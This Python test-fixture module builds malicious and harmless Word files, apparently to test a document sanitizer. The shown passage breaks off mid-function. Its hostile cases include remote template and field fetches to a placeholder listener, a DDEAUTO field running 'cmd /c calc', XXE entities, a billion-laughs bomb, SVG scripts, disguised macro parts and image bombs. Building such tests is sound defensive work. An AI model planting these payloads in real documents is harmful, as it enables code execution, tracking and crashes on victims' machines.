"""Word files that would fetch, run or swell when they are opened, as data: one edit each of a plain file.

``%URL%`` is an address where someone listens. Those of ``PASSING`` look alike and are harmless.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field

from docx import Document

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office"
MAIN = "word/document.xml"
SPACES = (
    f'xmlns:r="{R}" xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


@dataclass(frozen=True)
class Case:
    """What is put into a plain Word file."""

    body: str = ""
    """Before the end of the body, or of the root of ``into``."""
    into: str = MAIN
    rels: tuple[str, ...] = ()
    """Relationships of ``into``."""
    parts: dict[str, bytes | str] = field(default_factory=dict)
    types: str = ""
    replaced: tuple[str, str, str] | None = None
    """A part, and what stands in it for what."""
    twice: str = ""
    """A part that is written a second time, empty."""
    moved: tuple[str, str] | None = None
    """A part that bears another name."""


def rel(kind: str, target: str, key: str = "rId99", *, outside: bool = True) -> str:
    """One relationship; a kind with a colon is the whole type."""
    mode = ' TargetMode="External"' if outside else ""
    full = kind if ":" in kind else f"{R}/{kind}"
    return f'<Relationship Id="{key}" Type="{full}" Target="{target}"{mode}/>'


def override(part: str, kind: str) -> str:
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def para(inside: str) -> str:
    return f"<w:p {SPACES}>{inside}</w:p>"


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def mark(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instr(text: str, tag: str = "instrText") -> str:
    return run(f'<w:{tag} xml:space="preserve">{text}</w:{tag}>')


def fld(*instructions: str, result: str = "结果") -> str:
    """A field whose instruction is these pieces: texts, each in a run, or whole runs."""
    pieces = (each if each.startswith("<") else instr(each) for each in instructions)
    end = mark("separate") + run(f"<w:t>{result}</w:t>") + mark("end")
    return mark("begin") + "".join(pieces) + end


def picture(reference: str) -> str:
    size = '<a:off x="0" y="0"/><a:ext cx="990000" cy="990000"/>'
    return para(
        '<w:r><w:drawing><wp:inline><wp:extent cx="990000" cy="990000"/><wp:docPr id="91" name="a"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill>{reference}<a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        f'<pic:spPr><a:xfrm>{size}</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def vml(inside: str) -> str:
    shape = f'<v:shape style="width:50pt;height:50pt">{inside}</v:shape>'
    return para(run(f"<w:pict>{shape}</w:pict>"))


LINKED = picture('<a:blip r:link="rId99"/>')
SHOWN = picture('<a:blip r:embed="rId99"/>')
CHART = f"<c:chartSpace {SPACES}><c:chart><c:plotArea><c:layout/></c:plotArea></c:chart>%s</c:chartSpace>"
CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
CHART_SHOWN = para(
    '<w:r><w:drawing><wp:inline><wp:extent cx="990000" cy="990000"/><wp:docPr id="92" name="c"/>'
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
    '<c:chart r:id="rId99"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)


def chart(inside: str, rels: str = "", **parts: bytes) -> Case:
    """A chart that stands in the text."""
    held: dict[str, bytes | str] = {"word/charts/chart1.xml": CHART % inside}
    held |= {f"word/embeddings/{name}.xlsx": content for name, content in parts.items()}
    if rels:
        held["word/charts/_rels/chart1.xml.rels"] = relationships(rels)
    return Case(
        CHART_SHOWN,
        rels=(rel("chart", "charts/chart1.xml", outside=False),),
        parts=held,
        types=override("word/charts/chart1.xml", CHART_TYPE),
    )


def relationships(inside: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{inside}</Relationships>'


def media(name: str, content: bytes | str, kind: str = "image/x-any") -> Case:
    """A picture inside the file, shown in the text."""
    part = f"word/media/{name}"
    return Case(
        SHOWN,
        rels=(rel("image", f"media/{name}", outside=False),),
        parts={part: content},
        types=override(part, kind),
    )


def other_part(name: str, root: str, inside: str, kind: str, rels: str = "") -> Case:
    """A header, footnotes… of the document."""
    part = f"word/{name}.xml"
    parts: dict[str, bytes | str] = {part: f"<w:{root} {SPACES}>{inside}</w:{root}>"}
    if rels:
        parts[f"word/_rels/{name}.xml.rels"] = relationships(rels)
    return Case(
        rels=(rel(kind, f"{name}.xml", outside=False),),
        parts=parts,
        types=override(part, f"{WORD}.{kind}+xml"),
    )


def png(width: int, height: int) -> bytes:
    """A picture that says it is this large and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    line = zlib.compress(bytes(64))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", line) + chunk(b"IEND", b"")


def gif(width: int, height: int, frames: int) -> bytes:
    """An animation of frames as large as the screen it names."""
    image = b"\x2c" + struct.pack("<4HB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    palette = b"\x00\x00\x00\xff\xff\xff"
    return (
        b"GIF89a"
        + struct.pack("<2H3B", width, height, 0x80, 0, 0)
        + palette
        + image * frames
        + b";"
    )


def emf(*records: tuple[int, bytes]) -> bytes:
    """A metafile of these records between its header and its end."""
    body = b"".join(struct.pack("<2I", kind, 8 + len(data)) + data for kind, data in records)
    end = struct.pack("<5I", 14, 20, 0, 16, 20)
    size = 88 + len(body) + len(end)
    head = struct.pack("<2I8i", 1, 88, 0, 0, 99, 99, 0, 0, 2646, 2646)
    head += struct.pack(
        "<4s3IHHIIIii", b" EMF", 0x10000, size, len(records) + 2, 1, 0, 0, 0, 0, 99, 99
    )
    return (head + struct.pack("<2i", 99, 99)).ljust(88, b"\0")[:88] + body + end


def wmf(*records: tuple[int, bytes]) -> bytes:
    """A placeable old metafile of these records."""
    body = b"".join(struct.pack("<IH", 3 + len(d) // 2, kind) + d for kind, d in records)
    body += struct.pack("<IH", 3, 0)
    place = struct.pack("<IH4hHI", 0x9AC6CDD7, 0, 0, 0, 99, 99, 96, 0)
    check = 0
    for (word,) in struct.iter_unpack("<H", place):
        check ^= word
    head = struct.pack("<3HI HIH", 1, 9, 0x300, 9 + len(body) // 2, 1, 9, 0)
    return place + struct.pack("<H", check) + head + body


def svg(inside: str, before: str = "") -> str:
    return (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="90" height="90">{inside}</svg>'
    )


def package(parts: dict[str, str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return stream.getvalue()


def sheet_package(rels: str = "", more: dict[str, str] | None = None) -> bytes:
    """The workbook inside a chart."""
    space = "http://schemas.openxmlformats.org/package/2006/content-types"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    book = f'<Override PartName="/xl/workbook.xml" ContentType="{kind}"/>'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return package(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{space}"><Default Extension="rels" ContentType="application/vnd.'
                f'openxmlformats-package.relationships+xml"/>{book}</Types>'
            ),
            "_rels/.rels": relationships(
                rel("officeDocument", "xl/workbook.xml", "rId1", outside=False)
            ),
            "xl/workbook.xml": f'<workbook xmlns="{main}"/>',
            "xl/_rels/workbook.xml.rels": relationships(rels),
        }
        | (more or {})
    )


DEEP = "<x>" * 5000 + "</x>" * 5000
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 9}">' for n in range(1, 12))
FIELD_ADDRESS = '"%URL%x.docx"'
HTML = '<html><body><img src="%URL%chunk.png"/></body></html>'
CHOICE = '<mc:AlternateContent><mc:Choice Requires="wps">{}</mc:Choice><mc:Fallback>{}</mc:Fallback></mc:AlternateContent>'
OUTSIDE_SETTING = "</w:settings>"


def setting(inside: str, *rels: str, **parts: bytes | str) -> Case:
    """A setting of the document."""
    return Case(f"{inside}", into="word/settings.xml", rels=rels, parts=dict(parts))


REFUSED: dict[str, Case] = {
    # pictures
    "图片链接到外面": Case(LINKED, rels=(rel("image", "%URL%a.png"),)),
    "图片链接到本机文件": Case(LINKED, rels=(rel("image", "file:///etc/hostname"),)),
    "图片链接到共享文件夹": Case(LINKED, rels=(rel("image", r"\\127.0.0.1\share\a.png"),)),
    "超链接当图片用": Case(LINKED, rels=(rel("hyperlink", "%URL%b.png"),)),
    "超链接当嵌入图片用": Case(SHOWN, rels=(rel("hyperlink", "%URL%c.png"),)),
    "VML 图片的地址": Case(vml('<v:imagedata src="%URL%d.png"/>')),
    "VML 图片的链接": Case(vml('<v:imagedata o:href="%URL%e.png"/>')),
    "VML 图片用超链接": Case(
        vml('<v:imagedata r:href="rId99"/>'), rels=(rel("hyperlink", "%URL%f.png"),)
    ),
    "VML 图片编号用超链接": Case(
        vml('<v:imagedata r:id="rId99"/>'), rels=(rel("hyperlink", "%URL%g.png"),)
    ),
    "VML 填充的地址": Case(vml('<v:fill type="frame" src="%URL%h.png"/>')),
    "页眉里的外部图片": other_part("header9", "hdr", LINKED, "header", rel("image", "%URL%i.png")),
    "项目符号图片在外面": Case(
        f'<w:numPicBullet {SPACES} w:numPicBulletId="9"><w:pict><v:shape style="width:9pt;height:9pt">'
        '<v:imagedata r:id="rId99"/></v:shape></w:pict></w:numPicBullet>',
        into="word/numbering.xml",
        rels=(rel("image", "%URL%j.png"),),
    ),
    "图表的填充图片在外面": chart(
        '<c:spPr><a:blipFill><a:blip r:link="rId1"/></a:blipFill></c:spPr>',
        rel("image", "%URL%k.png", "rId1"),
    ),
    "视频": Case(
        picture('<a:blip r:embed="rId99"/>').replace(
            "<pic:cNvPicPr/></pic:nvPicPr>",
            '<pic:cNvPicPr/><pic:nvPr><a:videoFile r:link="rId98"/></pic:nvPr></pic:nvPicPr>',
        ),
        rels=(rel("video", "%URL%l.mp4", "rId98"),),
    ),
    "SVG 里的外部图片": media(
        "a.svg", svg('<image xlink:href="%URL%m.png" width="9" height="9"/>')
    ),
    "SVG 里的外部图片（新写法）": media(
        "a.svg", svg('<image href="%URL%n.png" width="9" height="9"/>')
    ),
    "SVG 里的外部图形": media("a.svg", svg('<use xlink:href="%URL%o.svg#a"/>')),
    "SVG 里的样式表": media("a.svg", svg("<style>@import url(%URL%p.css);</style>")),
    "SVG 里的样式表（指令）": media(
        "a.svg", svg("", '<?xml-stylesheet href="%URL%q.css" type="text/css"?>')
    ),
    "SVG 里的填充": media(
        "a.svg", svg('<rect width="9" height="9" style="fill:url(%URL%r.svg#a)"/>')
    ),
    "SVG 里的脚本": media("a.svg", svg("<script>fetch('%URL%s')</script>")),
    "SVG 里的网页": media(
        "a.svg",
        svg('<foreignObject><i xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    ),
    "SVG 的外部实体": media(
        "a.svg", svg("<text>&x;</text>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "%URL%t">]>')
    ),
    "SVG 当作 PNG": media("a.png", svg('<image xlink:href="%URL%u.png" width="9" height="9"/>')),
    "SVG 里的 SVG": media(
        "a.svg",
        svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    ),
    "EMF 里的文件名": media(
        "a.emf", emf((112, struct.pack("<2I", 0, 24) + b"\\\\127.0.0.1\\share\\a\0\0\0\0\0\0\0"))
    ),
    "EMF 里的 PostScript": media(
        "a.emf", emf((70, struct.pack("<I4sI", 24, b"GDIC", 0x40000004) + bytes(16)))
    ),
    "EMF 的记录长度不对": media("a.emf", emf((70, b""))[:-20] + struct.pack("<2I", 70, 2**31)),
    "WMF 里的 PostScript": media("a.wmf", wmf((0x0626, struct.pack("<2H", 37, 4) + b"%!PS"))),
    "EPS 当作 PNG": media("a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(%URL%v) run\n"),
    "PDF 当作 PNG": media("a.png", b"%PDF-1.4\n"),
    "网页当作 PNG": media("a.png", HTML),
    "图片炸弹": media("a.png", png(60_000, 60_000)),
    "图片炸弹（动画）": media("a.gif", gif(9_000, 9_000, 40)),
    "图片炸弹（很多张）": Case(
        SHOWN,
        rels=tuple(
            rel("image", f"media/b{n}.png", f"rId{n + 90}", outside=False) for n in range(20)
        ),
        parts={f"word/media/b{n}.png": png(9_000, 9_000) for n in range(20)},
        types='<Default Extension="png" ContentType="image/png"/>',
    ),
    # fields
    "INCLUDEPICTURE": Case(para(fld(' INCLUDEPICTURE "%URL%f1.png" \\d '))),
    "INCLUDETEXT": Case(para(fld(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "INCLUDE": Case(para(fld(f" INCLUDE {FIELD_ADDRESS} "))),
    "小写的域": Case(para(fld(f" includetext {FIELD_ADDRESS} "))),
    "简单域": Case(para(f"<w:fldSimple w:instr=' INCLUDETEXT {FIELD_ADDRESS} '/>")),
    "域名分在几段": Case(para(fld(" INC", "LUDE", "TEXT", f" {FIELD_ADDRESS} "))),
    "PAGE 接 DDEAUTO": Case(para(fld("PAGE") + fld('DDEAUTO soffice "%URL%x.ods" a1'))),
    "PAGE 接 DDEAUTO（分段）": Case(
        para(fld("PAGE", result="1") + fld("DDE", "AUTO", ' cmd "/c calc"'))
    ),
    "DDE": Case(para(fld(' DDE soffice "%URL%x.ods" a1 '))),
    "LINK": Case(para(fld(f" LINK Word.Document.8 {FIELD_ADDRESS} \\a "))),
    "IMPORT": Case(para(fld(' IMPORT "%URL%f2.png" '))),
    "DATABASE": Case(para(fld(' DATABASE \\d "%URL%x.mdb" \\s "SELECT 1" '))),
    "RD": Case(para(fld(f" RD {FIELD_ADDRESS} "))),
    "EMBED": Case(para(fld(" EMBED Package "))),
    "AUTOTEXT": Case(para(fld(" AUTOTEXT a "))),
    "MACROBUTTON": Case(para(fld(" MACROBUTTON AutoOpen 点这里 "))),
    "PRINT": Case(para(fld(' PRINT "x" '))),
    "域名由 QUOTE 拼成": Case(
        para(fld(fld("QUOTE 73 78", result="INCLUDE"), f"TEXT {FIELD_ADDRESS}"))
    ),
    "域名的后半由 QUOTE 拼成": Case(
        para(fld("INCLUDE", fld("QUOTE T", result="TEXT"), f" {FIELD_ADDRESS}"))
    ),
    "IF 里的域": Case(para(fld(" IF 1 = 1 ", fld(' INCLUDEPICTURE "%URL%f3.png" '), ' "" '))),
    "域写成正文": Case(para(fld(run(f"<w:t>INCLUDETEXT {FIELD_ADDRESS}</w:t>")))),
    "域前加删去的 PAGE": Case(
        para(
            fld(
                f"<w:del w:id='9' w:author='a'>{instr('PAGE ', 'delInstrText')}</w:del>",
                f"INCLUDETEXT {FIELD_ADDRESS}",
            )
        )
    ),
    "删去的域": Case(para(fld(instr(f"INCLUDETEXT {FIELD_ADDRESS}", "delInstrText")))),
    "没有结尾的域": Case(para(mark("begin") + instr(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "没有开头的域": Case(para(instr(f" INCLUDETEXT {FIELD_ADDRESS} "))),
    "域的另一种选择": Case(
        para(
            mark("begin")
            + CHOICE.format(instr("PAGE "), instr(f"INCLUDETEXT {FIELD_ADDRESS}"))
            + mark("end")
        )
    ),
    "文本框里的域": Case(
        vml(
            f"<v:textbox><w:txbxContent><w:p>{fld(f'INCLUDETEXT {FIELD_ADDRESS}')}</w:p></w:txbxContent></v:textbox>"
        )
    ),
    "域中间的文本框": Case(
        para(
            mark("begin")
            + instr("PAGE ")
            + run(
                f"<w:pict><v:shape><v:textbox><w:txbxContent><w:p>{instr(f'INCLUDETEXT {FIELD_ADDRESS}')}</w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
            )
            + mark("end")
        )
    ),
    "页脚里的域": other_part(
        "footer9", "ftr", para(fld(' INCLUDEPICTURE "%URL%f4.png" ')), "footer"
    ),
    "脚注里的域": other_part(
        "footnotes",
        "footnotes",
        f'<w:footnote w:id="9">{para(fld(f"INCLUDETEXT {FIELD_ADDRESS}"))}</w:footnote>',
        "footnotes",
    ),
    "批注里的域": other_part(
        "comments",
        "comments",
        f'<w:comment w:id="9" w:author="a">{para(fld(f"INCLUDETEXT {FIELD_ADDRESS}"))}</w:comment>',
        "comments",
    ),
    "自动图文集里的域": Case(
        rels=(rel("glossaryDocument", "glossary/document.xml", outside=False),),
        parts={
            "word/glossary/document.xml": f"<w:glossaryDocument {SPACES}>{para(fld(f'INCLUDETEXT {FIELD_ADDRESS}'))}</w:glossaryDocument>"
        },
        types=override("word/glossary/document.xml", f"{WORD}.document.glossary+xml"),
    ),
    # other parts and other documents
    "altChunk 网页": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>',
        rels=(rel("aFChunk", "chunk.html", outside=False),),
        parts={"word/chunk.html": HTML},
        types=override("word/chunk.html", "text/html"),
    ),
    "altChunk 在外面": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>', rels=(rel("aFChunk", "%URL%chunk.html"),)
    ),
    "altChunk 称作图片": Case(
        f'<w:altChunk {SPACES} r:id="rId99"/>',
        rels=(rel("image", "media/a.png", outside=False),),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "子文档": Case(f'<w:subDoc {SPACES} r:id="rId99"/>', rels=(rel("subDocument", "%URL%a.docx"),)),
    "附加模板": setting(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>', rel("attachedTemplate", "%URL%a.dotm")
    ),
    "附加模板称作超链接": setting(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>', rel("hyperlink", "%URL%b.dotm")
    ),
    "邮件合并": setting(
        f'<w:mailMerge {SPACES}><w:mainDocumentType w:val="catalog"/><w:dataType w:val="textFile"/>'
        '<w:dataSource r:id="rId99"/></w:mailMerge>',
        rel("mailMergeSource", "%URL%a.csv"),
    ),
    "邮件合并（没有编号）": setting(
        f'<w:mailMerge {SPACES}><w:mainDocumentType w:val="catalog"/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=x;Data Source=%URL%"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    ),
    "保存时转换": setting(
        f'<w:saveThroughXslt {SPACES} r:id="rId99"/>', rel("transform", "%URL%a.xsl")
    ),
    "框架网页": Case(
        f'<w:frameset {SPACES}><w:frame><w:sourceFileName r:id="rId99"/></w:frame></w:frameset>',
        into="word/webSettings.xml",
        rels=(rel("frame", "%URL%a.html"),),
    ),
    "OLE 链接": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("oleObject", "%URL%a.docx"),),
    ),
    "OLE 对象换了名字": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("oleObject", "media/image9.png", outside=False),),
        parts={"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        types=override("word/media/image9.png", "image/png"),
    ),
    "OLE 对象称作图片": Case(
        para(
            run(
                '<w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" r:id="rId99"/></w:object>'
            )
        ),
        rels=(rel("image", "media/image9.png", outside=False),),
        parts={"word/media/image9.png": png(1, 1)},
        types=override("word/media/image9.png", "image/png"),
    ),
    "ActiveX 控件": Case(
        para(run('<w:pict><w:control r:id="rId99"/></w:pict>')),
        rels=(rel("control", "a.xml", outside=False),),
        parts={"word/a.xml": "<a/>"},
        types=override("word/a.xml", "application/vnd.ms-office.activeX+xml"),
    ),
    "宏换了名字": Case(
        rels=(rel(f"{MS}/2006/relationships/vbaProject", "theme/theme9.xml", outside=False),),
        parts={"word/theme/theme9.xml": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        types=override("word/theme/theme9.xml", "application/vnd.ms-office.vbaProject"),
    ),
    "启用宏的文档": Case(
        replaced=(
            "[Content_Types].xml",
            f"{WORD}.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    ),
    "任务窗格": Case(
        into="_rels/.rels",
        rels=(rel(f"{MS}/2011/relationships/webextensiontaskpanes", "word/w.xml", outside=False),),
        parts={"word/w.xml": "<w/>"},
        types=override("word/w.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"),
    ),
    "功能区": Case(
        into="_rels/.rels",
        rels=(rel(f"{MS}/2006/relationships/ui/extensibility", "ui.xml", outside=False),),
        parts={"ui.xml": "<a/>"},
        types=override("ui.xml", "application/xml"),
    ),
    "外部样式": Case(rels=(rel("styles", "%URL%styles.xml"),)),
    "外部主题": Case(rels=(rel("theme", "%URL%theme.xml"),)),
    "外部页眉": Case(rels=(rel("header", "%URL%header.xml"),)),
    "外部字体": Case(
        f'<w:font {SPACES} w:name="a"><w:embedRegular r:id="rId99" w:fontKey="{{0}}"/></w:font>',
        into="word/fontTable.xml",
        rels=(rel("font", "%URL%a.odttf"),),
    ),
    "外部正文": Case(
        into="_rels/.rels",
        replaced=(
            "_rels/.rels",
            'Target="word/document.xml"',
            'Target="%URL%document.xml" TargetMode="External"',
        ),
    ),
    "图表的数据在外面": chart(
        '<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData>',
        rel("oleObject", "%URL%a.xlsx", "rId1"),
    ),
    "图表的工作簿带宏": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(
            rel(f"{MS}/2006/relationships/vbaProject", "v.bin", outside=False), {"xl/v.bin": "x"}
        ),
    ),
    "图表的工作簿链接外面": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(rel("externalLinkPath", "http://127.0.0.1/b.xlsx")),
    ),
    "图表的工作簿是程序": chart(
        '<c:externalData r:id="rId1"/>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=b"MZ\x90\x00",
    ),
    "脚本的超链接": Case(
        para(f'<w:hyperlink r:id="rId99">{run("<w:t>x</w:t>")}</w:hyperlink>'),
        rels=(rel("hyperlink", "vnd.sun.star.script:a.py$a?language=Python&amp;location=user"),),
    ),
    "超链接带声音": Case(
        SHOWN.replace("</wp:inline>", "")
        .replace(
            '<wp:docPr id="91" name="a"/>',
            '<wp:docPr id="91" name="a"><a:hlinkClick r:id=""><a:snd r:embed="rId98" name="a"/></a:hlinkClick></wp:docPr>',
        )
        .replace("</w:drawing>", "</wp:inline></w:drawing>"),
        rels=(
            rel("image", "media/a.png", outside=False),
            rel("audio", "%URL%a.wav", "rId98"),
        ),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    # names and XML
    "正文叫作 main.dat": Case(
        LINKED, rels=(rel("image", "%URL%n1.png"),), moved=(MAIN, "word/main.dat")
    ),
    "正文叫作 main.dat（域）": Case(
        para(fld(f" INCLUDETEXT {FIELD_ADDRESS} ")), moved=(MAIN, "word/main.dat")
    ),
    "设置叫作 a.bin": Case(
        f'<w:attachedTemplate {SPACES} r:id="rId99"/>',
        into="word/settings.xml",
        rels=(rel("attachedTemplate", "%URL%n2.dotm"),),
        moved=("word/settings.xml", "word/a.bin"),
    ),
    "外部实体": Case(
        replaced=(MAIN, "<w:document ", '<!DOCTYPE a [<!ENTITY x SYSTEM "%URL%n3">]><w:document '),
        body=para(run("<w:t>&x;</w:t>")),
    ),
    "外部 DTD": Case(
        replaced=(MAIN, "<w:document ", '<!DOCTYPE a SYSTEM "%URL%n4.dtd"><w:document ')
    ),
    "实体炸弹": Case(
        replaced=(
            "customXml/item1.xml",
            "<b:Sources",
            f'<!DOCTYPE a [<!ENTITY l0 "笑">{LAUGHS}]><b:Sources',
        )
    ),
    "UTF-16 的 DTD": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={
            "customXml/item9.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a SYSTEM "%URL%n5"><a/>'.encode(
                "utf-16"
            )
        },
    ),
    "少见的编码": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={"customXml/item9.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")},
    ),
    "很深的 XML": Case(para(DEEP)),
    "坏的 XML": Case(para("<w:r>")[:-1]),
    "同名的部件": Case(twice=MAIN),
    "大小写不同的部件": Case(parts={"word/DOCUMENT.xml": "<a/>"}),
    "同号的关系": Case(
        SHOWN,
        rels=(rel("image", "media/a.png", outside=False), rel("image", "%URL%n6.png")),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "没有注明在外面的地址": Case(SHOWN, rels=(rel("image", "%URL%n7.png", outside=False),)),
    "目标在上级文件夹": Case(
        SHOWN, rels=(rel("image", "../../../../etc/hostname", outside=False),)
    ),
    "不认识的关系": Case(
        rels=(rel("http://example.org/new", "a.xml", outside=False),),
        parts={"word/a.xml": "<a/>"},
        types=override("word/a.xml", "application/xml"),
    ),
    "很多部件": Case(
        rels=tuple(
            rel("customXml", f"../customXml/i{n}.xml", f"rIdx{n}", outside=False)
            for n in range(6000)
        ),
        parts={f"customXml/i{n}.xml": "<a/>" for n in range(6000)},
    ),
    "很大的部件": Case(parts={"word/huge.bin": bytes(70 * 2**20)}),
}

PASSING: dict[str, Case] = {
    "超链接": Case(
        para(f'<w:hyperlink r:id="rId99">{run("<w:t>网页</w:t>")}</w:hyperlink>'),
        rels=(rel("hyperlink", "%URL%p1.html"),),
    ),
    "图片上的超链接": Case(
        SHOWN.replace(
            '<wp:docPr id="91" name="a"/>',
            '<wp:docPr id="91" name="a"><a:hlinkClick r:id="rId98"/></wp:docPr>',
        ),
        rels=(
            rel("image", "media/a.png", outside=False),
            rel("hyperlink", "%URL%p2.html", "rId98"),
        ),
        parts={"word/media/a.png": png(1, 1)},
        types=override("word/media/a.png", "image/png"),
    ),
    "HYPERLINK 域": Case(para(fld(' HYPERLINK "%URL%p3.html" \\t "_blank" '))),
    "写着地址的文字": Case(para(run("<w:t>INCLUDETEXT %URL%p4.docx</w:t>"))),
    "REF 到同名的书签": Case(para(fld(" REF INCLUDETEXT \\h "))),
    "自定义 XML 里的地址": Case(
        rels=(rel("customXml", "../customXml/item9.xml", outside=False),),
        parts={"customXml/item9.xml": '<a href="%URL%p5"/>'},
    ),
    "附加架构的名称": setting(f'<w:attachedSchema {SPACES} w:val="%URL%p6.xsd"/>'),
    "也是 ODF 的文件": Case(
        parts={
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": (
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.'
                'opendocument.text"/></manifest:manifest>'
            ),
            "content.xml": (
                '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
                'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:section '
                'text:name="s"><text:section-source xlink:href="%URL%p7.odt"/></text:section>'
                "</office:text></office:body></office:document-content>"
            ),
        }
    ),
    "多出来的部件": Case(parts={"[trash]/0000.dat": "x", "word/vbaProject.bin": "x"}),
    "图表和它的工作簿": chart(
        '<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData>',
        rel("package", "../embeddings/a.xlsx", "rId1", outside=False),
        a=sheet_package(),
    ),
    "SVG": media(
        "a.svg",
        svg(
            '<defs><g id="a"/></defs><use xlink:href="#a"/><rect fill="url(#a)" width="9" height="9"/>'
        ),
    ),
    "EMF": media("a.emf", emf((70, struct.pack("<I4s", 4, b"EMF+")))),
    "WMF": media("a.wmf", wmf((0x0626, struct.pack("<2H", 15, 4) + b"note"))),
}


def hostile(case: Case, url: str, base: bytes | None = None) -> bytes:
    """The plain file, or ``base``, with what the case puts into it."""
    parts = _parts(_plain() if base is None else base)
    into = "_rels/.rels" if case.into == "_rels/.rels" else _relations_of(case.into)
    if case.replaced:
        name, old, new = case.replaced
        text = parts[name].decode()
        assert old in text
        parts[name] = text.replace(old, new, 1).encode()
    if case.body:
        text = parts[case.into].decode()
        place = text.rfind("<w:sectPr") if case.into == MAIN else text.rfind("</")
        if case.into == "word/numbering.xml":
            place = text.find("<w:abstractNum ")
        parts[case.into] = (text[:place] + case.body + text[place:]).encode()
    if case.rels:
        text = parts.get(into, relationships("").encode()).decode()
        parts[into] = text.replace(
            "</Relationships>", "".join(case.rels) + "</Relationships>"
        ).encode()
